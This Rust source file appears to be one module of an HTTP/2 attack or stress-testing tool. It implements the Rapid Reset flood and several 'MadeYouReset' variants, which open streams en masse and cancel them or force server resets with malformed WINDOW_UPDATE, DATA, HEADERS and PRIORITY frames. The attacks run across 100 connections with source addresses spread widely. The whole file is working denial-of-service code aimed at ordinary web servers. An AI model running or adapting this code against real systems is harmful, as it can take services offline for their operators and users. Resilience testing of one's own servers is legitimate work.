//! A12 and A14: streams that end before their responses, by the client or, provoked, by the server.

use super::{EACH, Needs, Scenario};
use crate::addresses::Spread;
use crate::attack::{Attack, hold};
use crate::h2::frame::{PRIORITY, data, frame, headers, priority, reset, stream_id, window_update};
use crate::h2::hpack::Block;
use crate::h2::session::Session;
use std::sync::Arc;

/// Requests of one write.
const AT_ONCE: u32 = 20;
/// CANCEL.
const CANCEL: u32 = 8;
/// What is asked for, if no path is given: an answer that takes long is worth resetting.
const LONG: &str = "/__slow/1000";

/// What makes a server reset a stream of its own accord.
type Mistake = fn(u32, &[u8]) -> Vec<u8>;

const fn scenario(
    name: &'static str,
    vector: &'static str,
    what: &'static str,
    run: fn(Arc<Attack>) -> super::Attacking,
) -> Scenario {
    Scenario {
        name,
        vector,
        what,
        needs: Needs::H2,
        connections: 100,
        rate: 100,
        addresses: EACH,
        spread: Spread::Wide,
        run,
    }
}

/// The scenarios of this family.
pub(super) const ALL: &[Scenario] = &[
    scenario("h2-rapid-reset", "A12", "HEADERS and RST_STREAM, as fast as they are taken", |a| {
        Box::pin(hold(a, |attack, n| streams(attack, n, |stream, _| reset(stream, CANCEL))))
    }),
    scenario(
        "h2-reset-window-zero",
        "A14",
        "MadeYouReset: WINDOW_UPDATE of 0 on each stream",
        |a| Box::pin(hold(a, |attack, n| streams(attack, n, |stream, _| window_update(stream, 0)))),
    ),
    scenario(
        "h2-reset-window-over",
        "A14",
        "MadeYouReset: a window past 2^31 on each stream",
        |a| Box::pin(hold(a, |attack, n| streams(attack, n, overflow))),
    ),
    scenario("h2-reset-data", "A14", "MadeYouReset: DATA after END_STREAM", |a| {
        Box::pin(hold(a, |attack, n| streams(attack, n, |stream, _| data(stream, b"x", true))))
    }),
    scenario("h2-reset-headers", "A14", "MadeYouReset: HEADERS after END_STREAM", |a| {
        Box::pin(hold(a, |attack, n| {
            streams(attack, n, |stream, block| headers(stream, block, true))
        }))
    }),
    scenario("h2-reset-priority", "A14", "MadeYouReset: PRIORITY of the wrong length", |a| {
        Box::pin(hold(a, |attack, n| {
            streams(attack, n, |stream, _| frame(PRIORITY, 0, stream, &[0; 4]))
        }))
    }),
    scenario("h2-reset-self", "A14", "MadeYouReset: a stream that depends on itself", |a| {
        Box::pin(hold(a, |attack, n| streams(attack, n, |stream, _| priority(stream, stream))))
    }),
];

fn overflow(stream: u32, _block: &[u8]) -> Vec<u8> {
    window_update(stream, 0x7fff_ffff).repeat(2)
}

/// Opens streams and resets each at once, until the server ends the connection.
async fn streams(attack: Arc<Attack>, n: usize, mistake: Mistake) {
    let Some(mut session) = Session::start(&attack, n, 1 << 16).await else { return };
    let block = Block::browser(false, attack.path_or(LONG), attack.host());
    let mut next = 0u32;
    while attack.goes_on() && !session.over() {
        let mut out = Vec::new();
        for _ in 0..AT_ONCE {
            let stream = stream_id(next);
            out.extend(headers(stream, block.bytes(), true));
            out.extend(mistake(stream, block.bytes()));
            next = next.saturating_add(1);
        }
        attack.tally.requests.add(AT_ONCE as usize);
        if session.push(&out).await.is_err() {
            break;
        }
        tokio::task::yield_now().await;
    }
    note_resets(&attack, session.resets());
    session.until_closed().await;
}

/// How far the server went before it ended the connection.
fn note_resets(attack: &Attack, resets: u64) {
    let name = match resets {
        0 => "resets by the server on one connection: none",
        1..=100 => "resets by the server on one connection: to 100",
        101..=1_000 => "resets by the server on one connection: to 1,000",
        _ => "resets by the server on one connection: more than 1,000",
    };
    attack.tally.event(name);
}
